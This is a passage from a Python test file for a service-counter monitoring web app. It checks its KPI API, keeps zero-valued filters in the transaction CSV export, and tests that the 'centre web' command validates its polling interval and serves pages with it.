    assert len(rows) == int(finished[2]) == bank["finished"]
    trend = json.loads(re.search(r'id="trend-data">([^<]+)<', page)[1])  # type: ignore[index]
    days = client.get(f"/api/v1/kpi?by=day&{PERIOD}").json()["rows"]
    assert len(days) >= 3
    for row in days:
        link = trend["link"][trend["day"].index(row["day"])]
        assert len(client.get("/api/v1" + link).json()["rows"]) == row["finished"], row["day"]


def test_a_criterion_of_zero_stays_in_the_export_and_the_api(site: str) -> None:
    """Monday, midnight, the first waiting band and service within its limit are 0: the
    transactions page's export keeps them, so it holds the page's rows, not every row."""
    client = sign_in(site, "zongbu")
    for criterion in ("service=0", "wait_band=0", "weekday=0", "hour=0", "service=1"):
        url = f"/transactions?{PERIOD}&outcome=served&{criterion}"
        shown = client.get("/api/v1" + url).json()
        key, value = criterion.split("=")
        assert shown["filters"][key] == int(value), shown["filters"]
        link = re.search(r'href="(/export/transactions\.csv\?[^"]+)"', client.get(url).text)
        assert link is not None and criterion in link[1]
        exported = client.get(link[1].replace("&amp;", "&")).text.lstrip("\ufeff").splitlines()
        assert len(exported) - 1 == len(shown["rows"]), criterion


def test_centre_web_serves_pages_polling_at_the_interval_given(tmp_path: Path) -> None:
    """``counterside centre web --poll-seconds``: the command as run, its pages told the interval;
    an interval out of range is refused with a clear error before anything is served."""
    import subprocess
    import sys
    import time

    from tests.mqtt_broker import free_port

    db, repo = str(tmp_path / "c.sqlite"), Path(__file__).resolve().parents[1]
    centre = [sys.executable, "-m", "device.cli", "centre"]
    subprocess.run(
        [*centre, "user", "add", "zongbu", "--role", "central", "--password-stdin", "--db", db],
        input=PASSWORD + "\n", cwd=repo, check=True, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    command = [*centre, "web", "--db", db]
    refused = subprocess.run(
        [*command, "--poll-seconds", "0"], cwd=repo, capture_output=True, text=True, timeout=60
    )
    assert refused.returncode == 2
    assert "--poll-seconds: 0: give 1 to 3600 seconds" in refused.stderr
    port = free_port()
    proc = subprocess.Popen(
        [*command, "--port", str(port), "--poll-seconds", "2.5"], cwd=repo,
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
    )  # fmt: skip
    try:
        site, deadline, up = f"http://127.0.0.1:{port}", time.monotonic() + 60, False
        while not up and time.monotonic() < deadline:
            assert proc.poll() is None, proc.stdout.read() if proc.stdout else ""
            try:
                up = httpx.get(f"{site}/login", timeout=5).status_code == 200
            except httpx.TransportError:
                time.sleep(0.2)
        assert up, "centre web did not answer within 60 s"
        page = sign_in(site, "zongbu").get("/alerts")
        assert page.status_code == 200
        assert 'data-poll-ms="2500"' in page.text and "每2.5秒刷新" in page.text
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=30)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait(timeout=30)
        if proc.stdout is not None:
            proc.stdout.close()
